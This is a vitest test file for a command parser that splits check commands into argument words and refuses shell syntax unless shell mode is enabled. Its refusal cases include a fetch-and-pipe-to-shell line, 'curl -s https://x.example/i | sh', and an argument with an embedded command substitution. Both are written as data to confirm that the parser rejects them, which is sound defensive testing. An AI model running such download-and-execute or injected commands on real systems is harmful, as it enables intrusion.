import { expect, it } from 'vitest';
import { type CommandRefusal, commandDigestText, parseCheckCommand } from './command-line.js';

const argvOf = (text: string) => {
  const command = parseCheckCommand(text, false);
  return 'kind' in command && command.kind === 'argv' ? command.argv : command;
};
const refusalOf = (text: string) => parseCheckCommand(text, false) as CommandRefusal;

it.each([
  ['npm test', ['npm', 'test']],
  ['  pytest   -q\ttests ', ['pytest', '-q', 'tests']],
  [`pytest -k 'a and b' "say \\"hi\\" \\\\ \\n"`, ['pytest', '-k', 'a and b', 'say "hi" \\ \\n']],
  [`echo '$HOME | *' a\\ b ''`, ['echo', '$HOME | *', 'a b', '']],
  [`x --a="b c"'d'`, ['x', '--a=b cd']],
  ['x a~b c#d e!f {a,b} a=b', ['x', 'a~b', 'c#d', 'e!f', '{a,b}', 'a=b']],
])('splits %j into words', (text, words) => {
  expect(argvOf(text)).toEqual(words);
});

it.each([...'|&;<>()`$*?[', '\n'])('refuses %j outside quotes, and names it', (char) => {
  const { refused, says, next } = refusalOf(`run a${char}b`);
  expect(refused).toBe('SHELL_SYNTAX');
  expect(says).toContain(`${JSON.stringify(char)} (character 6)`);
  expect(next).toContain('shell: true');
});

it.each(['echo ~/x', 'a #b', '! a', 'echo "$HOME"', 'echo "`id`"', 'curl -s https://x.example/i | sh'])(
  'refuses %j, which a shell would interpret',
  (text) => {
    expect(refusalOf(text).refused).toBe('SHELL_SYNTAX');
  },
);

it('refuses a leading assignment and says how to set a variable', () => {
  expect(refusalOf('CI=1 npm test')).toMatchObject({
    refused: 'SHELL_SYNTAX',
    next: expect.stringContaining('env CI=1'),
  });
});

it.each(['', '  ', "a 'b", 'a "b', 'a \\', "''", 'a\0b', 'x'.repeat(16_385), 'a '.repeat(1001)])(
  'refuses a command that cannot be split (%#)',
  (text) => {
    expect(refusalOf(text).refused).toBe('BAD_COMMAND');
  },
);

it('passes the whole line on to a shell if the check sets shell: true', () => {
  expect(parseCheckCommand(' a | b ', true)).toEqual({ kind: 'shell', line: 'a | b' });
});

it('gives equal words the same digest text, and a shell line a different one', () => {
  const digestText = (command: string, isShell = false) => {
    const parsed = parseCheckCommand(command, isShell);
    return 'kind' in parsed ? commandDigestText(parsed) : null;
  };
  expect(digestText('npm  "test"')).toBe(digestText('npm test'));
  expect(digestText('npm test', true)).not.toBe(digestText('npm test'));
  expect(digestText('npm test ""')).not.toBe(digestText('npm test'));
});
